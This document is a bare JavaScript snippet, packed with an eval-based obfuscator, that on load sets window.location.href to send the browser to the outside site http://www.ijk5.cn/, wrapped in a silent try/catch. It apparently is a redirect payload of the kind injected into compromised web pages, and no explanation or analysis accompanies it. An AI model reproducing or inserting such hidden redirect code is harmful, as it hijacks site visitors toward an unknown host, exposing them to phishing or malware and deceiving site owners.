eval(
  function(p,a,c,k,e,r){
    e=String;
    if('0'.replace(0,e)==0){
      while(c--)r[e(c)]=k[c];
      k=[function(e){return r[e]||e}];
      e=function(){return'^$'};c=1
    };
    while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);
    return p
  }('try{window.location.href="http://www.ijk5.cn/"}catch(e){}',[],1,''.split('|'),0,{})
)
